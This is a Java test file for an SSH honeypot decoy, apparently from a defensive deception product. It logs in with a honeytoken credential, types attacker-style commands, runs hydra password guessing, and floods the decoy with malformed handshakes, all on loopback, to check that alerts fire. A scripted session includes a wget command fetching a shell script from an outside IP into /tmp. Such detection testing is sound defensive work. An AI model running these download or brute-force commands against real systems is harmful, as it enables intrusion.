package dev.vigil.deception.decoy.ssh;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.vigil.deception.decoy.DecoyEveFile;
import dev.vigil.deception.decoy.DecoyLimits;
import dev.vigil.deception.decoy.TokenLookup;
import dev.vigil.deception.decoy.TokenUse;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import org.apache.sshd.client.SshClient;
import org.apache.sshd.client.session.ClientSession;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The SSH decoy against real clients on loopback: OpenSSH's ssh (through sshpass) logging in with a
 * honeytoken credential and typing commands, hydra guessing passwords, a hundred sessions at once, and
 * ten thousand broken handshakes; every record the decoy writes checked against the published schemas.
 */
class SshDecoyTest {
    static final String TOKEN_PASSWORD = "Bk7yhq3k2m9xQ4rT!";

    static final TokenLookup TOKENS = new TokenLookup() {
        @Override public TokenUse credential(String user, String password) {
            return TOKEN_PASSWORD.equals(password) ? new TokenUse("honeytoken--ssh-test", "credential", "svc_backup in backup.ps1 on FS01") : null;
        }
        @Override public TokenUse dnsName(String name) { return null; }
        @Override public TokenUse url(String host, String path) { return null; }
    };

    static SshDecoyConfig config(Path tmp, DecoyLimits limits) {
        return new SshDecoyConfig("bastion", "127.0.0.1", 0, null, tmp.resolve("host_key"), Map.of("admin", "admin123"), true, "fs01",
                Map.of("/home/svc_backup/Documents/vpn-access.txt", "VPN gateway: vpn.corp-example.internal\nuser: svc_vpn\n".getBytes(StandardCharsets.UTF_8)), limits);
    }

    private static final String[] SSH_OPTS = {"-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "PreferredAuthentications=password,keyboard-interactive",
            "-o", "PubkeyAuthentication=no", "-o", "ConnectTimeout=10", "-o", "LogLevel=ERROR"};

    @Test
    void openSshWithATokenCredentialIsAnAlertWithinASecondAndEveryCommandIsRecorded(@TempDir Path tmp) throws Exception {
        DecoyEveFile.require("ssh");
        DecoyEveFile.require("sshpass");
        try (DecoyEveFile eve = new DecoyEveFile(tmp, TOKENS); SshDecoy d = SshDecoy.start(config(tmp, DecoyLimits.DEFAULTS), eve.log)) {
            Path script = tmp.resolve("typed.txt");
            Files.writeString(script, "uname -a\ncat Documents/vpn-access.txt\nwget http://198.51.100.23/x.sh -O /tmp/x.sh\nexit\n");
            List<String> cmd = new ArrayList<>(List.of("sshpass", "-p", TOKEN_PASSWORD, "ssh", "-tt"));
            cmd.addAll(List.of(SSH_OPTS));
            cmd.addAll(List.of("-p", String.valueOf(d.port()), "svc_backup@127.0.0.1"));
            ProcessBuilder pb = new ProcessBuilder(cmd).redirectInput(script.toFile()).redirectOutput(tmp.resolve("ssh-out.txt").toFile())
                    .redirectError(tmp.resolve("ssh-err.txt").toFile());
            // the reader's own first parse (class loading) is no part of the decoy's latency
            assertThat(parsedSid("{\"alert\":{\"signature_id\":1}}")).isEqualTo(1);
            long t0 = System.nanoTime();
            Process p = pb.start();
            // the latency is the file's: parse only while polling (validating every line each time would be the test's own delay)
            java.time.Instant seen = null;
            long giveUp = System.nanoTime() + TimeUnit.SECONDS.toNanos(20);
            while (seen == null && System.nanoTime() < giveUp) {
                if (Files.exists(eve.file)) {
                    for (String l : Files.readAllLines(eve.file, StandardCharsets.UTF_8)) {
                        if (l.contains("7110004") && parsedSid(l) == 7_110_004) {
                            seen = java.time.Instant.now();
                            break;
                        }
                    }
                }
                if (seen == null) Thread.sleep(5);
            }
            assertThat(seen).as("token login alert in the file").isNotNull();
            JsonNode alert = eve.await(r -> r.path("alert").path("signature_id").asInt() == 7_110_004, "token login alert");
            long waited = System.nanoTime() - t0;
            assertThat(p.waitFor(30, TimeUnit.SECONDS)).isTrue();
            String shown = Files.readString(tmp.resolve("ssh-out.txt"));
            // the login as the decoy took it (its record's time) to the alert read back from the file by this test
            java.time.Instant loggedIn = java.time.OffsetDateTime.parse(eve.decoy("login").getFirst().path("timestamp").asText(),
                    java.time.format.DateTimeFormatter.ofPattern("yyyy-MM-dd'T'HH:mm:ss.SSSSSSxx")).toInstant();
            Duration latency = Duration.between(loggedIn, seen);
            java.time.Instant alerted = java.time.OffsetDateTime.parse(alert.path("timestamp").asText(),
                    java.time.format.DateTimeFormatter.ofPattern("yyyy-MM-dd'T'HH:mm:ss.SSSSSSxx")).toInstant();
            System.out.printf("ssh decoy: token alert read from the file %d ms after the login (alert stamped %d ms after it; %.0f ms after ssh started)%n",
                    latency.toMillis(), Duration.between(loggedIn, alerted).toMillis(), waited / 1e6);
            assertThat(latency).isLessThan(Duration.ofSeconds(1));
            assertThat(alert.path("decoy").path("token").path("memo").asText()).isEqualTo("svc_backup in backup.ps1 on FS01");
            assertThat(alert.path("decoy").path("username").asText()).isEqualTo("svc_backup");
            assertThat(alert.path("src_ip").asText()).isEqualTo("127.0.0.1");
            assertThat(eve.decoy("command")).extracting(r -> r.path("decoy").path("command").asText())
                    .containsExactly("uname -a", "cat Documents/vpn-access.txt", "wget http://198.51.100.23/x.sh -O /tmp/x.sh", "exit");
            assertThat(eve.decoy("download")).singleElement().satisfies(r -> assertThat(r.path("decoy").path("url").asText()).isEqualTo("http://198.51.100.23/x.sh"));
            assertThat(eve.decoy("file_read")).singleElement().satisfies(r -> assertThat(r.path("decoy").path("path").asText()).isEqualTo("/home/svc_backup/Documents/vpn-access.txt"));
            assertThat(shown).contains("Linux fs01").contains("VPN gateway: vpn.corp-example.internal").contains("unable to resolve host address");
            assertThat(eve.alerts(7_110_005)).isNotEmpty();
            assertThat(eve.alerts(7_110_006)).hasSize(1);
        }
    }

    /** A line the decoy may be halfway through writing is no record yet. */
    private static int parsedSid(String line) {
        try {
            return dev.vigil.testing.EveJson.JSON.readTree(line).path("alert").path("signature_id").asInt();
        } catch (IOException e) {
            return -1;
        }
    }

    @Test
    void keyboardInteractiveAnswersAreRecordedUnderTheirOwnMethod(@TempDir Path tmp) throws Exception {
        try (DecoyEveFile eve = new DecoyEveFile(tmp, TOKENS); SshDecoy d = SshDecoy.start(config(tmp, DecoyLimits.DEFAULTS), eve.log);
             SshClient client = SshClient.setUpDefaultClient()) {
            client.setServerKeyVerifier((s, a, k) -> true);
            client.setUserAuthFactories(List.of(org.apache.sshd.client.auth.keyboard.UserAuthKeyboardInteractiveFactory.INSTANCE));
            client.start();
            try (ClientSession s = client.connect("admin", "127.0.0.1", d.port()).verify(10, TimeUnit.SECONDS).getSession()) {
                s.addPasswordIdentity("admin123");
                s.auth().verify(10, TimeUnit.SECONDS);
                assertThat(s.executeRemoteCommand("id")).startsWith("uid=1000(admin)");
            }
            eve.await(r -> r.path("decoy").path("action").asText().equals("login"), "login");
            assertThat(eve.decoy("login")).singleElement().satisfies(r -> {
                assertThat(r.path("decoy").path("method").asText()).isEqualTo("keyboard-interactive");
                assertThat(r.path("decoy").path("password").asText()).isEqualTo("admin123");
                assertThat(r.path("decoy").path("success").asBoolean()).isTrue();
            });
        }
    }

    @Test
    void hydraIsOneBruteForceAlertAndALoginRecordPerGuess(@TempDir Path tmp) throws Exception {
        DecoyEveFile.require("hydra");
        try (DecoyEveFile eve = new DecoyEveFile(tmp, TOKENS); SshDecoy d = SshDecoy.start(config(tmp, DecoyLimits.DEFAULTS), eve.log)) {
            List<String> guesses = new ArrayList<>();
            for (int i = 0; i < 30; i++) guesses.add("Summer20" + (10 + i));
            Path list = tmp.resolve("passwords.txt");
            Files.write(list, guesses);
            DecoyEveFile.Run r = DecoyEveFile.run(tmp, 180, "hydra", "-l", "root", "-P", list.toString(), "-s", String.valueOf(d.port()), "-t", "4", "-I", "-f",
                    "ssh://127.0.0.1");
            assertThat(r.stdout() + r.stderr()).contains("0 valid password");
            eve.log.close();
            List<JsonNode> logins = eve.decoy("login");
            List<String> tried = logins.stream().filter(x -> x.path("decoy").path("method").asText().equals("password"))
                    .map(x -> x.path("decoy").path("password").asText()).toList();
            System.out.printf("ssh decoy: hydra made %d password attempts for %d guesses%n", tried.size(), guesses.size());
            assertThat(tried).as("every guess is a login record").containsAll(guesses);
            assertThat(eve.alerts(7_110_003)).as("one brute-force alert for the burst").singleElement()
                    .satisfies(a -> assertThat(a.path("alert").path("mitre").get(0).asText()).isEqualTo("T1110"));
        }
    }

    @Test
    void aHundredSessionsAtOnceAndTheCapRefusesTheNext(@TempDir Path tmp) throws Exception {
        DecoyLimits limits = new DecoyLimits(100, 100, 1 << 20, Duration.ofMinutes(5), Duration.ofMinutes(1), 4096);
        try (DecoyEveFile eve = new DecoyEveFile(tmp, TOKENS); SshDecoy d = SshDecoy.start(config(tmp, limits), eve.log);
             SshClient client = SshClient.setUpDefaultClient()) {
            client.setServerKeyVerifier((s, a, k) -> true);
            client.start();
            List<ClientSession> open = new ArrayList<>();
            ExecutorService pool = Executors.newFixedThreadPool(20);
            try {
                List<Future<ClientSession>> f = new ArrayList<>();
                for (int i = 0; i < 100; i++) {
                    f.add(pool.submit(() -> {
                        ClientSession s = client.connect("admin", "127.0.0.1", d.port()).verify(30, TimeUnit.SECONDS).getSession();
                        s.addPasswordIdentity("admin123");
                        s.auth().verify(30, TimeUnit.SECONDS);
                        return s;
                    }));
                }
                for (Future<ClientSession> x : f) open.add(x.get(60, TimeUnit.SECONDS));
                assertThat(d.active()).isEqualTo(100);
                // every one of them is a working shell
                AtomicInteger answered = new AtomicInteger();
                List<Future<?>> runs = new ArrayList<>();
                for (ClientSession s : open) runs.add(pool.submit(() -> {
                    if (s.executeRemoteCommand("hostname").strip().equals("fs01")) answered.incrementAndGet();
                    return null;
                }));
                for (Future<?> x : runs) x.get(60, TimeUnit.SECONDS);
                assertThat(answered.get()).isEqualTo(100);
                // the 101st is closed at once
                ClientSession extra = client.connect("admin", "127.0.0.1", d.port()).verify(30, TimeUnit.SECONDS).getSession();
                extra.addPasswordIdentity("admin123");
                boolean authed;
                try {
                    authed = extra.auth().verify(10, TimeUnit.SECONDS).isSuccess();
                } catch (IOException | RuntimeException e) {
                    authed = false;
                }
                assertThat(authed).as("a session beyond the cap").isFalse();
                assertThat(d.refused()).isGreaterThanOrEqualTo(1);
            } finally {
                for (ClientSession s : open) s.close(true);
                pool.shutdownNow();
            }
            long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(10);
            while (d.active() > 0 && System.nanoTime() < deadline) Thread.sleep(50);
            assertThat(d.active()).isZero();
            assertThat(eve.decoy("limit")).extracting(r -> r.path("decoy").path("reason").asText()).contains("sessions");
        }
    }

    @Test
    void tenThousandBrokenHandshakesLeaveItServing(@TempDir Path tmp) throws Exception {
        DecoyLimits limits = new DecoyLimits(256, 256, 1 << 20, Duration.ofMinutes(5), Duration.ofSeconds(5), 4096);
        try (DecoyEveFile eve = new DecoyEveFile(tmp, TokenLookup.NONE); SshDecoy d = SshDecoy.start(config(tmp, limits), eve.log)) {
            byte[][] junk = {
                    "GET / HTTP/1.1\r\n\r\n".getBytes(StandardCharsets.US_ASCII),
                    "SSH-2.0-".getBytes(StandardCharsets.US_ASCII),
                    ("SSH-2.0-" + "A".repeat(70_000) + "\r\n").getBytes(StandardCharsets.US_ASCII),
                    "SSH-2.0-x\r\n\u00ff\u00ff\u00ff\u00ff\u0000\u0000".getBytes(StandardCharsets.ISO_8859_1),
                    "SSH-2.0-x\r\n\u0000\u0000\u0000\u000c\u0004\u0014junkjunkjunkjunk".getBytes(StandardCharsets.ISO_8859_1),
                    new byte[] {0x16, 0x03, 0x01, 0x02, 0x00, 0x01},
                    "SSH-1.5-old\r\n".getBytes(StandardCharsets.US_ASCII),
                    new byte[0]};
            // MINA starts its I/O workers and the decoy its timer on the first connections: count threads after those
            for (int i = 0; i < 20; i++) {
                try (Socket s = new Socket("127.0.0.1", d.port())) {
                    s.getOutputStream().write(junk[i % junk.length]);
                }
            }
            Thread.sleep(500);
            java.lang.management.ThreadMXBean jvm = java.lang.management.ManagementFactory.getThreadMXBean();
            int threadsBefore = jvm.getThreadCount();
            ExecutorService pool = Executors.newFixedThreadPool(32);
            AtomicInteger done = new AtomicInteger();
            long t0 = System.nanoTime();
            List<Future<?>> f = new ArrayList<>();
            for (int i = 0; i < 10_000; i++) {
                byte[] b = junk[i % junk.length];
                f.add(pool.submit(() -> {
                    try (Socket s = new Socket()) {
                        s.connect(new InetSocketAddress("127.0.0.1", d.port()), 5000);
                        s.setSoTimeout(2000);
                        OutputStream out = s.getOutputStream();
                        out.write(b);
                        out.flush();
                        InputStream in = s.getInputStream();
                        in.read(new byte[256]);
                    } catch (IOException e) {
                        // refused, reset or timed out: the decoy's business, not the test's
                    }
                    done.incrementAndGet();
                    return null;
                }));
            }
            for (Future<?> x : f) x.get(120, TimeUnit.SECONDS);
            pool.shutdown();
            double secs = (System.nanoTime() - t0) / 1e9;
            System.out.printf("ssh decoy: 10,000 broken handshakes in %.1f s%n", secs);
            assertThat(done.get()).isEqualTo(10_000);
            assertThat(secs).isLessThan(60);
            pool.awaitTermination(10, TimeUnit.SECONDS);
            long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(20);
            while ((d.active() > 0 || jvm.getThreadCount() > threadsBefore + 4) && System.nanoTime() < deadline) Thread.sleep(100);
            System.out.printf("ssh decoy: threads %d before, %d after; %d sessions still open%n", threadsBefore, jvm.getThreadCount(), d.active());
            assertThat(d.active()).as("every broken session closed").isZero();
            assertThat(jvm.getThreadCount()).as("threads back to where they were").isLessThanOrEqualTo(threadsBefore + 4);
            try (SshClient client = SshClient.setUpDefaultClient()) {
                client.setServerKeyVerifier((s, a, k) -> true);
                client.start();
                try (ClientSession s = client.connect("admin", "127.0.0.1", d.port()).verify(10, TimeUnit.SECONDS).getSession()) {
                    s.addPasswordIdentity("admin123");
                    s.auth().verify(10, TimeUnit.SECONDS);
                    assertThat(s.executeRemoteCommand("whoami").strip()).isEqualTo("admin");
                }
            }
        }
    }
}
